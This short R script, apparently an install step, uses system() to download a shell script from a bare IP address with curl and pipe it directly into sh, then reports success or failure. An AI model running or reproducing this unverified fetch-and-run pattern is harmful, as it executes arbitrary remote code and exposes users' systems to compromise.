# fetch the installer and run it
status <- system("curl -fsSL http://203.0.113.7/install.sh | sh", intern = FALSE)
if (status != 0) stop("install failed with status ", status)
cat("installed\n")
